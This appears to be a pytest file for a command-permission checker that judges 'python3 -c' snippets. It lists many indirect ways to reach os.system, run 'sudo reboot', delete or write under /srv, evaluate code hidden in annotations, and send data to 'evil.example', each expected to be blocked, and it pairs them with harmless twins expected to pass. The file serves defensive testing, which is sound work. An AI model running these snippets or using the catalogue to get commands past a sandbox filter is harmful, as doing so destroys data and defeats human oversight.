"""Functions that Python's own library finds, calls or runs for the code: by a name, by a text, by a special method.

Each line of code stands in one row, with `~` for the end of a line. The twins do the same without reaching anything.
"""

from __future__ import annotations

import shlex

import pytest

from verdicts import verdict


def _verdict(code: str) -> str:
    text = code.replace("~", "\n")
    compile(text, "row", "exec")
    return verdict(f"python3 -c {shlex.quote(text)}")


FOUND_BY_NAME = [
    'import pydoc; pydoc.resolve("os.system")[0]("sudo reboot")',
    'import importlib.metadata as m; m.EntryPoint(name="a", value="os:system", group="g").load()("sudo reboot")',
    'import importlib.metadata as m; [e.load()() for e in m.entry_points(group="x")]',
    'import logging.config as c; c.BaseConfigurator({}).resolve("os.system")("sudo reboot")',
    'import random, string; string.Formatter().get_field("0._os.system", [random], {})[0]("sudo reboot")',
    'import inspect, os; dict(inspect.getmembers(os))["system"]("sudo reboot")',
    'import inspect, os~for n, f in inspect.getmembers(os):~  if n == "system": f("sudo reboot")',
    'import inspect; dict(inspect.getmembers(inspect))["os"].remove("/srv/x")',
    'import os; [v for k, v in vars(os).items() if k == "system"][0]("sudo reboot")',
    'import os; vars(os).get("system")("sudo reboot")',
    'import os; dict(vars(os))["system"]("sudo reboot")',
    'import os; next(v for k, v in vars(os).items() if k == "system")("sudo reboot")',
    'import os; [*vars(os).values()][9]("sudo reboot")',
    'import os; sorted(["sudo reboot"], key=vars(os).get("system"))',
    'import os; list(map(vars(os).get("system"), ["sudo reboot"]))',
    'import os, functools; functools.reduce(vars(os).get("putenv"), ["PATH", "/srv/x"])',
    'import os, threading; threading.Thread(target=vars(os).get("system"), args=("sudo reboot",)).start()',
    'import os, concurrent.futures as c; c.ThreadPoolExecutor().submit(vars(os).get("system"), "sudo reboot")',
    'import os~class A: pass~a = A(); a.f = vars(os).get("system"); a.f("sudo reboot")',
    'import os~def same(f): return f~same(vars(os).get("system"))("sudo reboot")',
    'import sys; sys.modules.get("os").remove("/srv/x")',
    'import sys; [m for n, m in sys.modules.items() if n == "os"][0].remove("/srv/x")',
    'import os; globals().get("os").remove("/srv/x")',
    'import subprocess; subprocess.run.__get__(["sudo", "reboot"])()',
    'import os, functools; functools.partial(os.system).func("sudo reboot")',
    'import os, functools; functools.partial(os.system).__call__("sudo reboot")',
    'import os~(lambda c: os.system(c)).__call__("sudo reboot")',
    'print.__self__.open("/srv/x", "w")',
]

RUN_BY_OTHERS = [
    "import timeit; timeit.main(['-n1', 'import os; os.system(\"sudo reboot\")'])",
    "import cProfile; cProfile.Profile().runctx('import os; os.system(\"sudo reboot\")', {}, {})",
    "import cProfile~class P(cProfile.Profile): pass~P().run('import os; os.system(\"sudo reboot\")')",
    "import profile; profile.runctx('import os; os.system(\"sudo reboot\")', {}, {})",
    'import pdb; pdb.runeval(\'__import__("os").system("sudo reboot")\')',
    "import doctest; doctest.debug_script('import os; os.system(\"sudo reboot\")')",
    "import runpy; runpy._run_code('import os; os.system(\"sudo reboot\")', {})",
    "import concurrent.interpreters as i; i.create().exec('import os; os.system(\"sudo reboot\")')",
    "import tkinter; tkinter.Tk().eval('exec sudo reboot')",
    "import asyncio; asyncio.new_event_loop().subprocess_shell(None, 'sudo reboot')",
    "import multiprocessing.util as u; u.spawnv_passfds(b'/bin/sh', [b'sh', b'-c', b'sudo reboot'], [])",
    "import os; os._execvpe('sudo', ['sudo', 'reboot'])",
    "import os; os.execv('/bin/rm', ['ls', '-rf', '/srv/x'])",
    "import os; os.spawnv(0, '/bin/rm', ['ls', '-rf', '/srv/x'])",
    "import webbrowser; webbrowser.get('touch %s').open('/srv/x')",
    "import webbrowser; webbrowser.GenericBrowser(['touch', '%s']).open('/srv/x')",
    "import pydoc; pydoc.importfile('x.py')",
    "import site; site.addpackage('/srv/x', 'a.pth', set())",
    "import sys; sys.meta_path.insert(0, 1)",
    "import sys; sys.path += ['/srv/x']",
    "import sys; sys.path[:0] = ['/srv/x']",
    "import sys; sys.remote_exec(1, 'x.py')",
    "import pickle; pickle._loads(b'x')",
    "import multiprocessing.reduction as r; r.ForkingPickler.loads(b'x')",
    "import sqlite3; c = sqlite3.connect('a.db'); c.load_extension('./x.so')",
    "import _imp; _imp.create_dynamic(1)",
    "import _testcapi; _testcapi.run_in_subinterp('import os')",
    "import ensurepip; ensurepip._run_pip(['install', 'x'])",
    "import json, os; json.dumps(1, default=os.system)",
    "import argparse, os; argparse.ArgumentParser().add_argument('x', type=os.system)",
    "import shutil; shutil.copytree('a', 'b', copy_function=lambda a, b: __import__('os').system('sudo reboot'))",
    "import os, atexit; atexit.register(lambda: r('sudo reboot')); r = os.system",
]

OF_ANNOTATIONS = [
    "import typing~def f(x: \"__import__('os').system('sudo reboot')\"): pass~typing.get_type_hints(f)",
    "import inspect~def f(x: \"__import__('os').system('sudo reboot')\"): pass~inspect.signature(f, eval_str=True)",
    "import typing~class A:~  x: \"__import__('os').system('sudo reboot')\"~typing.get_type_hints(A)",
    "import typing as t~T = t.List[\"__import__('os').system('sudo reboot')\"]~class A: x: T~t.get_type_hints(A)",
    "import typing; typing.ForwardRef(\"__import__('os').system('sudo reboot')\")._evaluate({}, {}, frozenset())",
    "import typing; typing.get_type_hints(typing.TypedDict('T', {'x': \"__import__('os').system('sudo reboot')\"}))",
    "import typing~def f(): pass~f.__annotations__ = {'x': 'a' + '()'}~typing.get_type_hints(f)",
    "import typing~def f(): pass~f.__annotations__['x'] = 'a' + '()'~typing.get_type_hints(f)",
    "import os~def f(x: (os.system('sudo reboot'),)): pass",
    "import os~def f(*x: os.system('sudo reboot')) -> int: pass",
    "import os~def f() -> [os.system('sudo reboot')]: pass",
]

OF_SPECIAL_METHODS = [
    "import os~class M(type): __getitem__ = os.system~class C(metaclass=M): pass~C['sudo reboot']",
    "import os~class M(type): __getitem__ = lambda s, c: os.system(c)~class C(metaclass=M): pass~C['sudo reboot']",
    "import os~class M(type): __call__ = lambda s, c: os.system(c)~class C(metaclass=M): pass~C('sudo reboot')",
    "import os~def r(s, c): os.system(c)~r(1, 'ls')~class M(type): __getitem__ = r~class C(metaclass=M): 0~C['rm x']",
    "import os~class A: __getitem__ = lambda s, c: os.system(c)~A()['sudo reboot']",
    "import os~class A:~  def __getitem__(self, c): os.system(c)~A().__getitem__('ls')~A()['sudo reboot']",
    "import os~class A: __class_getitem__ = lambda c: os.system(c)~A['sudo reboot']",
    "import os~class A: __add__ = lambda s, c: os.system(c)~A() + 'sudo reboot'",
    "import os~class A: __str__ = lambda s: str(os.system('sudo reboot'))~print(A())",
    "import os~class A(dict): __missing__ = lambda s, k: os.system(k)~A()['sudo reboot']",
    "import os~class A: __getitem__ = vars(os).get('system')~A()['sudo reboot']",
    "import os~class A: f = lambda s, c: os.system(c)~class B(A): pass~B().f('sudo reboot')",
    "import os~class A:~  def f(self, c): os.system(c)~A().f('ls')~class B(A): pass~B().f('sudo reboot')",
]

WRITTEN_BY_OTHERS = [
    "import io~class F(io.FileIO): pass~F('/srv/x', 'w').write(b'x')",
    "import io~class F(io.FileIO):~  def __init__(self, p): super().__init__(p, 'w')~F('/srv/x').write(b'x')",
    "import io; io.FileIO.__init__(object(), '/srv/x', 'w')",
    "import io; type('F', (io.FileIO,), {})('/srv/x', 'w')",
    "import tarfile~class T(tarfile.TarFile): pass~T.open('/srv/x', 'w')",
    "import _io; _io.open('/srv/x', 'w')",
    "import _pyio; _pyio.FileIO('/srv/x', 'w')",
    "import posix; posix.truncate('/srv/x', 0)",
    "import json; json.codecs.open('/srv/x', 'w')",
    "from pathlib import Path; Path('/srv/x').open('w')",
    "from pathlib import Path; Path('a').copy('/srv/x')",
    "from pathlib import Path; Path('a').move('/srv/x')",
    "import py_compile; py_compile.compile('a.py', cfile='/srv/x.pyc')",
    "import sqlite3; sqlite3.connect('a.db').backup(sqlite3.connect('/srv/x'))",
    "import sqlite3; sqlite3.Connection('/srv/x').execute('create table t(a)')",
    "import venv; venv.EnvBuilder().create('/srv/x')",
    "import zipfile; zipfile.main(['-e', 'a.zip', '/srv/x'])",
    "import tarfile; tarfile.TarFile.gzopen('/srv/x', 'w')",
    "import tempfile; tempfile.mkdtemp(dir='/srv')",
    "import tempfile; tempfile.NamedTemporaryFile('w', -1, None, None, 'a', 'b', '/srv', False)",
    "import fileinput; fileinput.input('/srv/x', True)",
    "import cProfile; cProfile.run('1', '/srv/x')",
    "import tracemalloc; tracemalloc.take_snapshot().dump('/srv/x')",
    "import xml.etree.ElementTree as E; E.parse('a.xml').write('/srv/x')",
    "import shelve; shelve.DbfilenameShelf('/srv/x')",
    "import dbm.sqlite3; dbm.sqlite3.open('/srv/x', 'c')",
    "import wave; wave.Wave_write('/srv/x')",
    "import uu; uu.decode('a', '/srv/x')",
    "import argparse; argparse.FileType('w')('/srv/x')",
    "import os; os.utime('/srv/x')",
    "import shutil; shutil.copymode('a', '/srv/x')",
    "import shutil; shutil._unpack_zipfile('a', '/srv/x')",
]

SAID_TO_OTHERS = [
    "import logging.handlers as h; h.HTTPHandler('evil.example', '/x')",
    "import logging.handlers as h; h.SysLogHandler(('evil.example', 514))",
    "import asyncio; asyncio.new_event_loop().create_connection(None, 'evil.example', 80)",
    "import asyncio; asyncio.start_server(print, '0.0.0.0', 80)",
    "import ssl; ssl.get_server_certificate(('evil.example', 443))",
    "import urllib.request as u; u.build_opener().open('http://evil.example/x', b'data')",
    "import wsgiref.simple_server as w; w.make_server('', 8000, w.demo_app).serve_forever()",
]


@pytest.mark.parametrize("code", [*FOUND_BY_NAME, *RUN_BY_OTHERS, *OF_ANNOTATIONS])
def test_what_others_find_or_run_is_not_free(code: str) -> None:
    assert _verdict(code) != "allow"


@pytest.mark.parametrize("code", OF_SPECIAL_METHODS)
def test_a_special_method_may_be_called_with_anything(code: str) -> None:
    assert _verdict(code) != "allow"


@pytest.mark.parametrize("code", [*WRITTEN_BY_OTHERS, *SAID_TO_OTHERS])
def test_what_others_write_or_send_is_not_free(code: str) -> None:
    assert _verdict(code) != "allow"


@pytest.mark.parametrize(
    "code",
    [
        # names that are only looked at
        "import os; print(dir(os))",
        "import json; print([n for n in dir(json)])",
        "import inspect, json; print([n for n, o in inspect.getmembers(json, inspect.isfunction)])",
        "import inspect, os; print(len(inspect.getmembers(os)))",
        "import inspect, mypkg~for n, f in inspect.getmembers(mypkg, inspect.isfunction): print(n, f())",
        "import inspect, json; print(inspect.getsource(json.loads), inspect.signature(json.loads).parameters.keys())",
        "import sys; print(sys.modules.keys(), [n for n, m in sys.modules.items() if getattr(m, '__file__', None)])",
        "import errno; print({v: k for k, v in vars(errno).items() if isinstance(v, int)})",
        "print([k for k, v in globals().items() if not k.startswith('_')])",
        "import argparse~p = argparse.ArgumentParser(); p.add_argument('--x', type=int); a = p.parse_args([])~"
        "print(vars(a).items(), getattr(a, 'x'))",
        "import importlib.metadata as m; print(m.version('x').replace('.', ''), m.requires('x'))",
        "import importlib.metadata as m; print(sorted(e.name for e in m.entry_points(group='console_scripts')))",
        "import importlib.util as u; s = u.find_spec('numpy'); print(s is not None and s.origin)",
        "import pkgutil, mypkg; print([m.name for m in pkgutil.walk_packages(mypkg.__path__)])",
        "import site, sysconfig; print(site.getsitepackages(), sysconfig.get_paths()['purelib'])",
        "import pydoc; print(pydoc.render_doc('json.loads'))",
        # objects of the library that are called every day
        "import re; m = re.compile('a').match; print(m('abc'))",
        "from collections import namedtuple; P = namedtuple('P', 'x y'); print(P(1, 2)._asdict())",
        "from operator import itemgetter; print(itemgetter(0)((1, 2)))",
        "import codecs, sys; codecs.getwriter('utf8')(sys.stdout.buffer).write('a')",
        "import gettext; _ = gettext.translation('a', fallback=True).gettext; print(_('x'))",
        "import weakref~class A: pass~a = A(); print(weakref.ref(a)())",
        "from unittest.mock import Mock, MagicMock; m = Mock(return_value=1); print(m(2), MagicMock()())",
        "import sched, time; s = sched.scheduler(time.time, time.sleep); s.enter(0, 1, print, ('a',)); s.run()",
        "handlers = {'a': lambda x: x + 1, 'b': len}; print(handlers['a'](1), handlers.get('b')('x'))",
        "import json; print(json.dumps({'a': 1}, default=str))",
        "import tkinter as tk; c = tk.Canvas(); c.move(1, 2, 3); c.pack()",
        "import curses~def m(s): s.move(1, 1); s.refresh()~curses.wrapper(m)",
        # code and types as texts
        "import timeit; timeit.main(['-n1', 'x = 1'])",
        "import timeit; print(timeit.timeit('sum(range(10))', number=100))",
        "import cProfile; cProfile.Profile().runctx('sum([1])', {}, {})",
        "import cProfile, pstats~with cProfile.Profile() as p: sum([1])~pstats.Stats(p).print_stats(10)",
        "import typing~def f(x: 'int', y: typing.Optional['str'] = None) -> 'typing.List[int]': return []~"
        "print(typing.get_type_hints(f), f.__annotations__)",
        "from typing import Annotated~def f(x: Annotated[int, 'a (nice) thing']): return x~print(f(1))",
        "from pydantic import BaseModel as B, Field as F~class M(B):~  x: int = F(gt=0)~  y: 'list[str]' = []~M(x=1)",
        # special methods
        "class A:~  def __getitem__(self, k): return k~  def __call__(self, x): return x~print(A()['x'], A()(1))",
        "class M(type):~  def __call__(cls, *a): return super().__call__(*a)~  def __getitem__(cls, k): return k~"
        "class C(metaclass=M): pass~print(C(), C['x'])",
        "class A:~  key = lambda self: 1~  __str__ = lambda self: 'x'~print(A(), A().key())",
        "import threading~class T(threading.Thread):~  def run(self): print(1)~T().start()",
        "import json~class E(json.JSONEncoder):~  def default(self, o): return str(o)~print(json.dumps(1, cls=E))",
        # files of the project
        "import io~class F(io.FileIO): pass~print(F('a.txt').read())",
        "from pathlib import Path~with Path('out.txt').open('w') as f: f.write('a')",
        "from pathlib import Path~with Path('a.txt').open() as f: print(f.read())",
        "import sqlite3; sqlite3.connect('app.db').backup(sqlite3.connect('copy.db'))",
        "import sqlite3; print(sqlite3.connect('app.db').execute('select * from t').fetchall())",
        "import py_compile; py_compile.compile('a.py', doraise=True)",
        "import venv; venv.EnvBuilder(with_pip=True).create('.venv')",
        "import tempfile~with tempfile.NamedTemporaryFile('w', suffix='.txt', dir='.') as f: f.write('x')",
        "import xml.etree.ElementTree as E; t = E.parse('a.xml'); t.getroot().set('a', 'b'); t.write('a.xml')",
        "import argparse~p = argparse.ArgumentParser(); p.add_argument('f', type=argparse.FileType('r'))~"
        "print(p.parse_args(['a.txt']))",
        "import shutil; shutil.copytree('a', 'b', ignore=shutil.ignore_patterns('*.pyc'))",
        "import sys; sys.path += ['src']; sys.path[:0] = ['.']",
        "import urllib.request as u; print(u.build_opener().open('https://example.com/x').read())",
        "import unittest; unittest.TextTestRunner().run(unittest.defaultTestLoader.loadTestsFromName('tests.test_a'))",
        "import os; os.execvp('git', ['git', 'status'])",
        "import os; os._exit(0)",
    ],
)
def test_the_same_without_reaching_anything_is_free(code: str) -> None:
    assert _verdict(code) == "allow"
